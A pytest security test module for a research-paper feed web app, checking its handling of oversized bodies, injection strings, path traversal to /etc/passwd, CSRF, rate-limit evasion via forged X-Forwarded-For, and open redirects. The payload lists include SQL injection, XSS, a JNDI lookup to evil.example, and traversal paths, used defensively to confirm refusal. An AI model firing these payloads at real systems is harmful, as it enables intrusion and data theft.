"""The app facing hostile or careless clients over real HTTP: oversized and odd bodies,
injection characters in queries, ids and paths, security headers and cookies, CSRF, rate
limits and open redirects. The real app runs on 127.0.0.1 over a catalog holding real Hugging
Face daily lists."""

from __future__ import annotations

import contextlib
import datetime as dt
import os
import re
import shutil
import socket
import subprocess
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote, urljoin, urlsplit

import httpx
import pytest
import sqlalchemy as sa
from lxml import html

from paperfeed.accounts.rate_limit import SIGN_IN, SIGN_IN_ACCOUNT, SUBSCRIBE
from paperfeed.clock import FrozenClock
from paperfeed.config import Settings
from paperfeed.db.schema import comments, daily_papers, papers, users, votes
from paperfeed.runtime import Runtime
from tests.conftest import DATA, scratch_database
from tests.support.accounts import confirmed_user
from tests.support.cli import Cli
from tests.support.server import LiveServer, csrf_token, free_port, http_client, live_server
from tests.support.waiting import wait_until

HF_DAILY = DATA / "fixtures" / "hf_papers"
PASSWORD = "correct horse battery staple"
PAPER = "2606.13392"  # "MiniMax Sparse Attention", on the list of 2026-06-12


@dataclass
class Site:
    runtime: Runtime
    server: LiveServer

    def client(self, **kwargs: object) -> httpx.Client:
        return http_client(self.server.url, timeout=30, **kwargs)

    def counts(self) -> dict[str, int]:
        with self.runtime.engine.connect() as conn:
            return {
                table.name: conn.execute(sa.select(sa.func.count()).select_from(table)).scalar_one()
                for table in (papers, daily_papers, users, votes, comments)
            }


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, catalog_server: str | None) -> Iterator[Site]:
    """One served catalog for the module. Rate limits are scaled up here so that the many
    sign-ins of these tests are not refused; test_sign_in_is_rate_limited has its own app."""
    if not DATA.is_dir():
        pytest.skip(f"shared data not found at {DATA}")
    home = tmp_path_factory.mktemp("hostile")
    databases = ExitStack()
    url = databases.enter_context(scratch_database())
    env = {"PAPERFEED_HOME": str(home), "PAPERFEED_DATABASE_URL": url, "PAPERFEED_CONFIG": None}
    cli = Cli(env)
    cli("import", "hf-daily", *sorted(HF_DAILY.glob("*.json")), "--no-progress")
    runtime = Runtime(Settings(home=home, database_url=url, rate_limit_scale=100.0))
    confirmed_user(runtime.accounts, "reader@example.org", "reader", PASSWORD)
    try:
        with live_server(runtime) as server:
            yield Site(runtime, server)
    finally:
        runtime.close()
        databases.close()  # drops the PostgreSQL database


def sign_in(client: httpx.Client, next: str = "/") -> httpx.Response:
    form = {"email": "reader@example.org", "password": PASSWORD, "next": next}
    return client.post("/signin", data={**form, "csrf_token": csrf_token(client)})


def raw_request(port: int, request: bytes) -> tuple[int, bytes]:
    """Send bytes exactly as given (no client normalises the path or the framing); returns
    the status and the whole answer."""
    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
        sock.sendall(request)
        answer = b""
        try:
            while chunk := sock.recv(65536):
                answer += chunk
        except ConnectionResetError:
            pass
    status = int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.1 ") else 0
    return status, answer


# -- bodies ------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/signin", "/api/v1/submit", "/papers/2606.13392/comments"])
def test_body_over_the_limit_by_content_length_is_413(site: Site, path: str) -> None:
    limit = site.runtime.settings.max_body_bytes
    with site.client() as client:
        response = client.post(
            path,
            content=b"email=" + b"x" * limit,
            headers={"Content-Type": "application/x-www-form-urlencoded"},
        )
    assert response.status_code == 413
    assert response.text == "request body too large"


@pytest.mark.parametrize("path", ["/signin", "/api/v1/submit", "/signup"])
def test_chunked_body_over_the_limit_is_413(site: Site, path: str) -> None:
    """No Content-Length: the app counts what arrives and stops at the limit."""
    limit = site.runtime.settings.max_body_bytes

    def chunks() -> Iterator[bytes]:
        yield b"email="
        for _ in range(limit // 4096 + 4):
            yield b"x" * 4096

    with site.client() as client:
        response = client.post(
            path, content=chunks(), headers={"Content-Type": "application/x-www-form-urlencoded"}
        )
    assert "content-length" not in response.request.headers
    assert response.request.headers["transfer-encoding"] == "chunked"
    assert response.status_code == 413


def test_chunked_body_over_the_limit_on_a_raw_socket_is_413(site: Site) -> None:
    limit = site.runtime.settings.max_body_bytes
    chunk = b"x" * 8192
    body = b"".join(b"%x\r\n%s\r\n" % (len(chunk), chunk) for _ in range(limit // 8192 + 2))
    status, _ = raw_request(
        site.server.port,
        b"POST /signin HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n"
        b"Content-Type: application/x-www-form-urlencoded\r\nConnection: close\r\n\r\n"
        + body
        + b"0\r\n\r\n",
    )
    assert status == 413


def test_body_under_the_limit_is_read(site: Site) -> None:
    limit = site.runtime.settings.max_body_bytes
    with site.client() as client:
        token = csrf_token(client)
        response = client.post(
            "/signin",
            data={"email": "x" * (limit - 1000), "password": "p", "csrf_token": token},
        )
    assert response.status_code == 400  # the email is too long, which the form says


def test_non_numeric_content_length_is_refused(site: Site) -> None:
    status, _ = raw_request(
        site.server.port,
        b"POST /signin HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 1e9\r\n"
        b"Connection: close\r\n\r\n",
    )
    assert 400 <= status < 500


def test_multipart_file_upload_to_a_form_is_refused_safely(site: Site) -> None:
    before = site.counts()
    with site.client() as client:
        sign_in(client)
        token = csrf_token(client, f"/papers/{PAPER}")
        comment = client.post(
            f"/papers/{PAPER}/comments",
            data={"csrf_token": token},
            files={"body": ("exploit.html", b"<script>alert(1)</script>", "text/html")},
        )
        submit = client.post(
            "/submit",
            data={"csrf_token": token},
            files={"paper": ("id.txt", b"0704.0001", "text/plain")},
        )
        many_parts = client.post(
            "/signin",
            data={"csrf_token": token, **{f"f{i}": "x" for i in range(2000)}},
            files={"upload": ("a.bin", b"\x00" * 100, "application/octet-stream")},
        )
        too_big = client.post(
            "/signin",
            data={"csrf_token": token},
            files={"upload": ("big.bin", b"\x00" * site.runtime.settings.max_body_bytes)},
        )
    for response in (comment, submit, many_parts):
        assert 400 <= response.status_code < 500, response.text[:300]
    assert too_big.status_code == 413
    assert site.counts() == before


# -- injection characters -------------------------------------------------------------------

HOSTILE = [
    "'; DROP TABLE papers;--",
    '" OR 1=1 --',
    "\x00",
    "a\x00b",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "<script>alert(1)</script>",
    "量子 🤖 é ß ﬁ \u202e\u200b",
    "x" * 10_000,
    "AND",
    "OR",
    "NOT",
    "-",
    "+",
    "*",
    "?",
    "~",
    "^",
    ":",
    "cat:",
    "title:",
    '"',
    '"unbalanced quote',
    "(unbalanced",
    "unbalanced)",
    "[1 TO",
    "{}",
    "%s%n%x",
    "${jndi:ldap://evil.example/a}",
    "pf-9999999999999999",
    "pf-１２",
]
HOSTILE_IDS = [f"#{i}" for i in range(len(HOSTILE))]


@pytest.mark.postgresql  # reaches the catalog with what a database may not hold
@pytest.mark.parametrize("text", HOSTILE, ids=HOSTILE_IDS)
def test_hostile_queries_never_give_a_server_error(site: Site, text: str) -> None:
    with site.client() as client:
        answers = {
            path: client.get(path, params={"q": text})
            for path in (
                "/search",
                "/api/v1/search",
                "/feeds/search.atom",
                "/api/papers/search",
            )
        }
        answers["/search (filters)"] = client.get(
            "/search", params={"q": "attention", "cat": text[:40], "since": text[:10]}
        )
        answers["/api/v1/daily"] = client.get("/api/v1/daily", params={"date": text})
        answers["/feeds/daily.atom"] = client.get("/feeds/daily.atom", params={"date": text})
    for path, response in answers.items():
        assert response.status_code < 500, (path, response.status_code, response.text[:300])
        if response.headers["content-type"].startswith("text/html"):
            assert "<script>alert(1)" not in response.text


@pytest.mark.postgresql  # reaches the catalog with what a database may not hold
@pytest.mark.parametrize("text", HOSTILE, ids=HOSTILE_IDS)
def test_hostile_ids_in_paths_are_not_found(site: Site, text: str) -> None:
    with site.client() as client:
        token = csrf_token(client)
        for path in (
            "/papers/{}",
            "/api/v1/papers/{}",
            "/api/v1/papers/{}/similar",
            "/api/papers/{}",
            "/papers/{}.md",
            "/papers/date/{}",
            "/papers/week/{}",
            "/papers/month/{}",
        ):
            response = client.get(path.format(_quote_path(text)))
            assert 400 <= response.status_code < 500, (path, response.status_code)
        upvote = client.post(f"/papers/{_quote_path(text)}/upvote", data={"csrf_token": token})
        assert 400 <= upvote.status_code < 500


def _quote_path(text: str) -> str:
    return quote(text, safe="")


@pytest.mark.postgresql  # reaches the catalog with what a database may not hold
@pytest.mark.parametrize(
    "target",
    [
        b"/search?q=%ff%fe%00",
        b"/api/v1/search?q=%C0%AF%ED%A0%80",
        b"/feeds/search.atom?q=%ff",
        b"/api/v1/papers/%ff%fe",
        b"/papers/%C0%AE%C0%AE%C0%AF",
        b"/api/v1/daily?date=%ff%ff",
    ],
)
def test_invalid_utf8_in_queries_and_paths_is_no_server_error(site: Site, target: bytes) -> None:
    status, _ = raw_request(
        site.server.port,
        b"GET " + target + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
    )
    assert 200 <= status < 500


@pytest.mark.postgresql  # reaches the catalog with what a database may not hold
def test_catalog_is_intact_after_hostile_requests(site: Site) -> None:
    before = site.counts()
    with site.client() as client:
        for text in HOSTILE:
            client.get("/api/v1/search", params={"q": text})
            client.get(f"/api/v1/papers/{_quote_path(text)}")
        daily = client.get("/api/v1/daily", params={"date": "2026-06-12"}).json()
        paper = client.get(f"/api/v1/papers/{PAPER}").json()
        search = client.get("/api/v1/search", params={"q": "MiniMax Sparse Attention"}).json()
    assert site.counts() == before
    assert before["papers"] == 63 and before["daily_papers"] == 63
    assert len(daily["papers"]) == 30
    assert paper["title"] == "MiniMax Sparse Attention"
    assert search["results"][0]["id"] == PAPER


@pytest.mark.postgresql  # reaches the catalog with what a database may not hold
@pytest.mark.parametrize(
    ("path", "fields"),
    [
        ("/signin", {"email": "a\x00b@example.org", "password": "x"}),
        ("/signup", {"email": "n\x00@example.org", "username": "nul", "password": PASSWORD}),
        ("/signup", dict(email="f@x.org", username="f0", password=PASSWORD, fullname="\x00")),
        ("/reset", {"email": "\x00@example.org"}),
        ("/subscribe", {"email": "a\x00b@example.org"}),
        ("/reset/a\x00b", {"password": PASSWORD}),
        (f"/papers/{PAPER}/comments", {"body": "hello\x00world"}),
        (f"/papers/{PAPER}/comments", {"body": "a reply", "parent": str(10**20)}),
        ("/comments/100000000000000000000/hide", {}),
        ("/account/tokens", {"name": "token\x00"}),
        ("/submit", {"paper": "2606.13392\x00"}),
    ],
)
def test_form_values_a_database_cannot_hold_are_refused(
    site: Site, path: str, fields: dict[str, str]
) -> None:
    """NUL characters (PostgreSQL text cannot hold them) and integers beyond 64 bits are the
    client's error: a 4xx, never a 500, and nothing is written."""
    before = site.counts()
    with site.client() as client:
        sign_in(client)
        token = csrf_token(client, f"/papers/{PAPER}")
        response = client.post(quote(path, safe="/"), data={**fields, "csrf_token": token})
    assert response.status_code < 500, response.text[:300]
    if response.status_code >= 400:  # (SQLite can store a NUL, so it may be accepted there)
        assert site.counts() == before


@pytest.mark.postgresql  # reaches the catalog with what a database may not hold
@pytest.mark.parametrize(
    "path",
    [
        "/subscribe/confirm/a%00b",
        "/unsubscribe/a%00b",
        "/digest/preferences/a%00b",
        "/reset/a%00b",
        "/api/v1/papers/%00",
    ],
)
def test_nul_in_link_tokens_is_no_server_error(site: Site, path: str) -> None:
    with site.client() as client:
        response = client.get(path)
    assert response.status_code < 500


@pytest.mark.parametrize(
    "raw_path",
    [
        b"/static/../../../../etc/passwd",
        b"/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
        b"/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        b"/static/....//....//etc/passwd",
        b"/static/..\\..\\..\\etc\\passwd",
        b"/static/style.css%00.js",
        b"/../../../etc/passwd",
        b"/papers/../../etc/passwd",
    ],
)
def test_path_traversal_reads_no_file(site: Site, raw_path: bytes) -> None:
    status, answer = raw_request(
        site.server.port,
        b"GET " + raw_path + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
    )
    assert 400 <= status < 500
    assert b"root:" not in answer


# -- headers and cookies -----------------------------------------------------------------------

PAGES = ["/", "/papers/date/2026-06-12", "/trending", "/search?q=attention", f"/papers/{PAPER}"]


@pytest.mark.parametrize("path", [*PAGES, "/signin", "/signup", "/submit", "/no-such-page"])
def test_pages_have_a_content_security_policy_without_inline_scripts(site: Site, path: str) -> None:
    with site.client() as client:
        response = client.get(path)
    assert response.headers["content-type"].startswith("text/html")
    policy = _directives(response.headers["content-security-policy"])
    scripts = policy.get("script-src", policy.get("default-src"))
    assert scripts is not None and "'unsafe-inline'" not in scripts
    assert "'unsafe-eval'" not in scripts and "*" not in scripts
    assert policy["object-src"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'none'"]
    assert response.headers["x-content-type-options"] == "nosniff"
    # The page needs no inline script, so the policy does not break it.
    page = html.fromstring(response.text)
    for script in page.iter("script"):
        assert script.get("src") and not (script.text or "").strip()
    for element in page.iter():
        handlers = [a for a in element.attrib if a.lower().startswith("on")]
        assert not handlers, (element.tag, handlers)


def _directives(header: str) -> dict[str, list[str]]:
    parts = (directive.split() for directive in header.split(";") if directive.strip())
    return {part[0].lower(): part[1:] for part in parts}


def test_session_and_csrf_cookies_are_httponly_and_samesite_lax(site: Site) -> None:
    with site.client() as client:
        token = csrf_token(client, "/signin")
        csrf_cookie = client.get("/signin").headers.get("set-cookie")
        response = client.post(
            "/signin",
            data={"email": "reader@example.org", "password": PASSWORD, "csrf_token": token},
        )
        assert response.status_code == 303
        session = _set_cookie(response, "pf_session")
        assert client.get("/account").status_code == 200
    assert "httponly" in session and session.get("samesite") == "lax"
    assert session.get("path") == "/"
    assert "secure" not in session  # plain HTTP here; `secure_cookies` turns it on
    with site.client() as fresh:
        csrf = _set_cookie(fresh.get("/signin"), "pf_csrf")
    assert "httponly" in csrf and csrf.get("samesite") == "lax"
    assert csrf_cookie is None  # the client already had its CSRF cookie: no new one


@pytest.mark.parametrize("path", [*PAGES, "/account", "/submit", "/no-such-page"])
def test_pages_for_a_signed_in_user_are_not_cached(site: Site, path: str) -> None:
    with site.client() as client:
        anonymous = client.get(path)
        sign_in(client)
        personal = client.get(path)
    assert personal.headers["content-type"].startswith("text/html")
    assert personal.headers["cache-control"] == "private, no-store"
    assert "no-store" not in anonymous.headers.get("cache-control", "")


def _set_cookie(response: httpx.Response, name: str) -> dict[str, str]:
    for header in response.headers.get_list("set-cookie"):
        first, *attributes = [part.strip() for part in header.split(";")]
        if first.startswith(f"{name}="):
            parsed = {"value": first.split("=", 1)[1]}
            for attribute in attributes:
                key, _, value = attribute.partition("=")
                parsed[key.lower()] = value.lower()
            return parsed
    raise AssertionError(f"no {name} cookie set: {response.headers.get_list('set-cookie')}")


def test_secure_cookies_setting_marks_the_session_cookie_secure(site: Site) -> None:
    settings = site.runtime.settings.model_copy(update={"secure_cookies": True})
    runtime = Runtime(settings)
    try:
        with (
            live_server(runtime) as server,
            http_client(server.url, timeout=60) as client,
        ):
            # A Secure cookie does not come back over plain HTTP, so the token is sent as a
            # cookie header by hand.
            page = client.get("/signin")
            csrf = _set_cookie(page, "pf_csrf")
            token = str(html.fromstring(page.text).xpath("//input[@name='csrf_token']/@value")[0])
            response = client.post(
                "/signin",
                data={"email": "reader@example.org", "password": PASSWORD, "csrf_token": token},
                headers={"Cookie": f"pf_csrf={csrf['value']}"},
            )
        assert "secure" in csrf
        assert "secure" in _set_cookie(response, "pf_session")
    finally:
        runtime.close()


# -- CSRF ---------------------------------------------------------------------------------------


def test_form_post_without_csrf_token_is_403(site: Site) -> None:
    with site.client() as client:
        csrf_token(client)  # the cookie alone is not enough
        response = client.post(
            "/signin", data={"email": "reader@example.org", "password": PASSWORD}
        )
    assert response.status_code == 403
    assert "pf_session" not in response.cookies


def test_form_post_with_a_token_that_is_not_the_cookies_is_403(site: Site) -> None:
    with site.client() as client, site.client() as attacker:
        csrf_token(client)
        forged = csrf_token(attacker)
        response = client.post(
            "/signin",
            data={"email": "reader@example.org", "password": PASSWORD, "csrf_token": forged},
        )
    assert response.status_code == 403


def test_form_post_from_the_configured_base_url_is_accepted(site: Site) -> None:
    """Behind a proxy that terminates TLS (and is not trusted), the browser's origin is the
    site's public address, PAPERFEED_BASE_URL, not the plain-HTTP one the app sees."""
    public = "https://papers.example.org"
    settings = site.runtime.settings.model_copy(update={"base_url": public})
    runtime = Runtime(settings)
    try:
        with (
            live_server(runtime) as server,
            http_client(server.url, timeout=60) as client,
        ):
            token = csrf_token(client)
            form = {"email": "reader@example.org", "password": PASSWORD, "csrf_token": token}
            accepted = client.post("/signin", data=form, headers={"Origin": public})
            foreign = client.post(
                "/signin", data=form, headers={"Origin": "https://papers.example.org.evil"}
            )
    finally:
        runtime.close()
    assert accepted.status_code == 303
    assert foreign.status_code == 403


def test_form_post_with_a_cookie_and_token_of_the_attackers_choosing_is_403(site: Site) -> None:
    """Another app on the host (or a sibling domain) can set our CSRF cookie; a cookie and a
    form field both set to the same value of its choosing are no token of ours."""
    chosen = "A" * 43  # the shape of a token
    with site.client() as client:
        client.cookies.set("pf_csrf", chosen)
        form = {"email": "reader@example.org", "password": PASSWORD, "csrf_token": chosen}
        response = client.post("/signin", data=form)
        assert response.status_code == 403
        assert "pf_session" not in response.cookies
        # The cookie is replaced by one of ours, whose token works.
        accepted = client.post("/signin", data={**form, "csrf_token": csrf_token(client)})
    assert accepted.status_code == 303


def test_a_csrf_token_works_only_in_the_session_it_was_given_to(site: Site) -> None:
    """Tokens are bound to the browser's session: a token of the attacker's own session (or one
    from before sign-in) is refused in the victim's, even with the attacker's CSRF cookie
    planted in the victim's browser."""
    with site.client() as attacker, site.client() as victim:
        sign_in(attacker)
        attackers_token = csrf_token(attacker, f"/papers/{PAPER}")
        victim.cookies.set("pf_csrf", attacker.cookies["pf_csrf"])
        anonymous_token = csrf_token(victim, f"/papers/{PAPER}")
        sign_in(victim)
        before = site.counts()
        for token in (attackers_token, anonymous_token):
            response = victim.post(f"/papers/{PAPER}/upvote", data={"csrf_token": token})
            assert response.status_code == 403
        assert site.counts() == before
        # A new session is a new token: the old one is dead after signing in again.
        old = csrf_token(victim, f"/papers/{PAPER}")
        sign_in(victim)
        assert victim.post("/signout", data={"csrf_token": old}).status_code == 403
        new = csrf_token(victim, f"/papers/{PAPER}")
        assert victim.post("/signout", data={"csrf_token": new}).status_code == 303


@pytest.mark.parametrize(
    "origin",
    [
        "https://evil.example",
        "http://127.0.0.1.evil.example",
        "http://localhost:1",
        "null",  # an opaque origin: a sandboxed frame, a data: URL, a page from file:
    ],
)
def test_form_post_from_a_foreign_origin_is_403(site: Site, origin: str) -> None:
    with site.client() as client:
        sign_in(client)
        token = csrf_token(client, f"/papers/{PAPER}")
        before = site.counts()
        response = client.post(
            f"/papers/{PAPER}/upvote", data={"csrf_token": token}, headers={"Origin": origin}
        )
        same_site = client.post(
            f"/papers/{PAPER}/upvote",
            data={"csrf_token": token, "up": "0"},
            headers={"Origin": site.server.url},
        )
    assert response.status_code == 403
    assert site.counts() == before
    assert same_site.status_code == 303


# -- rate limits ---------------------------------------------------------------------------------


@pytest.mark.postgresql  # the limits are counted in the catalog
@pytest.mark.parametrize(("scale", "allowed"), [(1.0, 10), (0.3, 3)])
def test_sign_in_is_rate_limited(settings: Settings, scale: float, allowed: int) -> None:
    """The 11th sign-in attempt from one address within 5 minutes is refused with 429 and a
    Retry-After (and `rate_limit_scale` scales the allowance). A fresh catalog of its own: the
    counts are kept in the database. The app's clock stands still at 12:01:00, four minutes
    before the 5-minute window ends, so the burst cannot straddle two windows."""
    clock = FrozenClock(dt.datetime(2026, 8, 3, 12, 1))
    runtime = Runtime(settings.model_copy(update={"rate_limit_scale": scale}), clock=clock)
    confirmed_user(runtime.accounts, "victim@example.org", "victim", PASSWORD)
    with (
        live_server(runtime) as server,
        http_client(server.url, timeout=60) as client,
        contextlib.closing(runtime),
    ):
        token = csrf_token(client)
        answers = [
            client.post(
                "/signin",
                data={"email": f"guess{i}@example.org", "password": "wrong", "csrf_token": token},
            )
            for i in range(allowed)
        ]
        refused = client.post(
            "/signin",
            data={"email": "victim@example.org", "password": PASSWORD, "csrf_token": token},
        )
    assert [a.status_code for a in answers] == [400] * allowed
    assert refused.status_code == 429
    assert SIGN_IN.per == dt.timedelta(minutes=5)
    assert int(refused.headers["retry-after"]) == 4 * 60  # until 12:05:00
    assert "pf_session" not in refused.cookies


@contextlib.contextmanager
def limited_site(settings: Settings, **changes: object) -> Iterator[tuple[Runtime, LiveServer]]:
    """The app over a fresh catalog of its own (rate-limit counts live in the database) with
    these settings, its clock standing still at 12:01:00 (the 5-minute windows end at 12:05,
    the hourly ones at 13:00), and the account of the victim@example.org."""
    clock = FrozenClock(dt.datetime(2026, 8, 3, 12, 1))
    runtime = Runtime(settings.model_copy(update=changes), clock=clock)
    confirmed_user(runtime.accounts, "victim@example.org", "victim", PASSWORD)
    with live_server(runtime) as server, contextlib.closing(runtime):
        yield runtime, server


def _wrong_sign_in(
    client: httpx.Client, token: str, email: str, forwarded_for: str | None = None
) -> int:
    form = {"email": email, "password": "wrong password", "csrf_token": token}
    headers = {"X-Forwarded-For": forwarded_for} if forwarded_for else {}
    return client.post("/signin", data=form, headers=headers).status_code


@pytest.mark.postgresql  # the limits are counted in the catalog
def test_a_forged_x_forwarded_for_does_not_escape_the_limit(settings: Settings) -> None:
    """No proxy is trusted by default: a client that sends a new X-Forwarded-For with every
    attempt is still one client (the server runs with `paperfeed serve`'s options)."""
    with (
        limited_site(settings) as (_, server),
        http_client(server.url, timeout=60) as client,
    ):
        token = csrf_token(client)
        answers = [
            _wrong_sign_in(client, token, f"guess{i}@x.org", f"10.9.0.{i}") for i in range(11)
        ]
    assert answers == [400] * 10 + [429]


NGINX_SITE = Path(__file__).parents[2] / "deploy" / "nginx" / "paperfeed.conf"


@contextlib.contextmanager
def nginx_in_front(upstream: LiveServer, folder: Path, port: int) -> Iterator[str]:
    """Debian's nginx on loopback running deploy/nginx/paperfeed.conf as documented (its two
    ports changed, and TLS added as its comment says) in front of `upstream`; yields the
    proxy's URL."""
    binary = shutil.which("nginx") or "/usr/sbin/nginx"
    if not Path(binary).is_file():
        if os.environ.get("CI") == "true":
            pytest.fail("nginx is missing (.ci/run installs Debian's nginx-light)")
        pytest.skip("nginx is not installed (apt-get install nginx-light)")
    site = NGINX_SITE.read_text()
    # TLS, as the comment in the file says to add (a certificate made for the test).
    cert, key = folder / "cert.pem", folder / "key.pem"
    subprocess.run(
        [
            *("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1"),
            *("-subj", "/CN=127.0.0.1", "-keyout", str(key), "-out", str(cert)),
        ],
        check=True,
        capture_output=True,
    )
    site = site.replace(
        "listen 80;",
        f"listen 127.0.0.1:{port} ssl; ssl_certificate {cert}; ssl_certificate_key {key};",
    )
    site = site.replace("http://127.0.0.1:8000;", f"http://127.0.0.1:{upstream.port};")
    assert f":{port} ssl;" in site and f":{upstream.port};" in site
    temp = " ".join(f"{kind}_temp_path {folder / kind};" for kind in TEMP_PATHS)
    (folder / "nginx.conf").write_text(
        f"daemon off; master_process off; pid {folder / 'nginx.pid'};\n"
        f"error_log {folder / 'error.log'};\n"
        "events { worker_connections 64; }\n"
        f"http {{ access_log off; {temp}\n{site}\n}}\n"
    )
    command = [binary, "-p", str(folder), "-e", str(folder / "error.log")]
    proxy = subprocess.Popen([*command, "-c", str(folder / "nginx.conf")])
    try:

        def listening() -> bool:
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 1):
                return True
            return False

        wait_until(
            listening,
            within=20,
            what="nginx did not start listening",
            gone=lambda: None if proxy.poll() is None else (folder / "error.log").read_text(),
        )
        yield f"https://127.0.0.1:{port}"
    finally:
        proxy.terminate()
        proxy.wait(timeout=20)


TEMP_PATHS = ("client_body", "proxy", "fastcgi", "uwsgi", "scgi")


def test_behind_the_documented_nginx_clients_are_told_apart_and_cookies_are_secure(
    settings: Settings, tmp_path: Path
) -> None:
    """deploy/nginx/paperfeed.conf, with TLS, in front of a server started as it says
    (PAPERFEED_TRUSTED_PROXIES, PAPERFEED_BASE_URL, PAPERFEED_SECURE_COOKIES): a client that
    forges X-Forwarded-For is still counted as itself, form posts through the proxy pass the
    CSRF origin check, and the session cookie is Secure."""
    port = free_port()
    with (
        limited_site(
            settings,
            trusted_proxies=["127.0.0.1"],
            base_url=f"https://127.0.0.1:{port}",
            secure_cookies=True,
        ) as (_, server),
        nginx_in_front(server, tmp_path, port) as url,
        httpx.Client(base_url=url, verify=False) as client,
    ):
        origin = {"Origin": url}
        with httpx.Client(base_url=url, verify=False) as owners:
            owner = owners.post(
                "/signin",
                data={
                    "email": "victim@example.org",
                    "password": PASSWORD,
                    "csrf_token": csrf_token(owners),
                },
                headers=origin,
            )
        token = csrf_token(client)
        guesses = [
            client.post(
                "/signin",
                data={"email": f"g{i}@x.org", "password": "wrong", "csrf_token": token},
                headers={**origin, "X-Forwarded-For": f"10.7.0.{i}"},
            ).status_code
            for i in range(11)
        ]
    assert owner.status_code == 303, owner.text
    session = next(
        v for k, v in owner.headers.multi_items() if k == "set-cookie" and "pf_session" in v
    )
    assert "secure" in session.lower()
    # One client (nginx replaced each forged header with the address it saw, the same as the
    # owner's here): 10 attempts in the window, the owner's included, then 429.
    assert guesses == [400] * 9 + [429] * 2


def test_a_trusted_proxy_names_the_client(settings: Settings) -> None:
    """With PAPERFEED_TRUSTED_PROXIES naming the proxy (here: this machine), the client is the
    address the proxy adds to X-Forwarded-For, the last one it did not add itself."""
    with (
        limited_site(settings, trusted_proxies=["127.0.0.1"]) as (_, server),
        http_client(server.url, timeout=60) as client,
    ):
        token = csrf_token(client)
        # A client's own (forged) entries come first; the proxy appends the address it saw.
        hops = "10.0.0.1, 198.51.100.7"
        first = [_wrong_sign_in(client, token, f"guess{i}@x.org", hops) for i in range(11)]
        other = _wrong_sign_in(client, token, "guess@x.org", "198.51.100.8")
    assert first == [400] * 10 + [429]
    assert other == 400  # another client behind the same proxy has its own count


@pytest.mark.postgresql  # the limits are counted in the catalog
def test_wrong_passwords_from_many_clients_do_not_lock_the_owner_out(settings: Settings) -> None:
    """Guesses at one account from many addresses count against each address, and against the
    account only up to a much higher threshold: its owner still signs in from their own."""
    with (
        limited_site(settings, trusted_proxies=["127.0.0.1"]) as (_, server),
        http_client(server.url, timeout=60) as client,
    ):
        token = csrf_token(client)
        guesses = [
            _wrong_sign_in(client, token, "victim@example.org", f"10.8.{i}.1") for i in range(20)
        ]
        form = {"email": "victim@example.org", "password": PASSWORD, "csrf_token": token}
        owner = client.post("/signin", data=form, headers={"X-Forwarded-For": "192.0.2.10"})
    assert guesses == [400] * 20
    assert owner.status_code == 303


@pytest.mark.postgresql  # the limits are counted in the catalog
def test_sign_ins_to_one_account_have_a_higher_limit_of_their_own(settings: Settings) -> None:
    """Scaled down (0.1: a client gets 1 attempt, an account 10 from everywhere together), the
    11th guess at one account from an 11th address is refused."""
    assert SIGN_IN_ACCOUNT.count >= 10 * SIGN_IN.count and SIGN_IN_ACCOUNT.per == SIGN_IN.per
    with (
        limited_site(settings, trusted_proxies=["127.0.0.1"], rate_limit_scale=0.1) as (_, srv),
        http_client(srv.url) as client,
    ):
        token = csrf_token(client)
        guesses = [
            _wrong_sign_in(client, token, "victim@example.org", f"10.7.{i}.1") for i in range(11)
        ]
        again = _wrong_sign_in(client, token, "other@example.org", "10.7.0.1")
    assert guesses == [400] * 10 + [429]
    assert again == 429  # the client's own limit (1 attempt when scaled by 0.1)


@pytest.mark.postgresql  # the limits are counted in the catalog
def test_subscribe_counts_each_request_once(settings: Settings) -> None:
    """The limit is 10 subscriptions an hour per client (and per address): the 10th goes
    through, the 11th is refused."""
    assert SUBSCRIBE.count == 10
    # Each subscription mails a confirmation link: more than httpx's 5 s on a loaded machine.
    with (
        limited_site(settings) as (_, server),
        http_client(server.url, timeout=60) as client,
    ):
        token = csrf_token(client, "/")
        answers = [
            client.post("/subscribe", data={"email": f"reader{i}@example.org", "csrf_token": token})
            for i in range(11)
        ]
    assert [a.status_code for a in answers] == [200] * 10 + [429]


# -- open redirects ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "//evil.example",
        "https://evil.example",
        "http://evil.example/papers",
        "/\\evil.example",
        "\\\\evil.example",
        "///evil.example",
        "javascript:alert(1)",
        "/\t/evil.example",
        "/\r\nLocation: https://evil.example",
        "evil.example",
    ],
)
def test_sign_in_does_not_redirect_off_site(site: Site, target: str) -> None:
    with site.client() as client:
        form = html.fromstring(client.get("/signin", params={"next": target}).text)
        response = sign_in(client, next=target)
    hidden = form.xpath("//input[@name='next']/@value")
    assert hidden in ([], ["/"]) or _same_site(site, str(hidden[0]))
    assert response.status_code == 303
    location = response.headers["location"]
    assert _same_site(site, location), location
    assert "\r" not in location and "\n" not in location


def test_sign_in_redirects_to_a_local_next(site: Site) -> None:
    with site.client() as client:
        response = sign_in(client, next=f"/papers/{PAPER}")
    assert response.status_code == 303
    assert urlsplit(response.headers["location"]).path == f"/papers/{PAPER}"


def _same_site(site: Site, location: str) -> bool:
    """Where a browser goes with this Location: this server, by the browser's own URL rules
    (backslashes are slashes, tabs and newlines are dropped)."""
    cleaned = re.sub(r"[\t\r\n]", "", location).replace("\\", "/")
    resolved = urlsplit(urljoin(site.server.url + "/signin", cleaned))
    return resolved.scheme == "http" and resolved.netloc == urlsplit(site.server.url).netloc
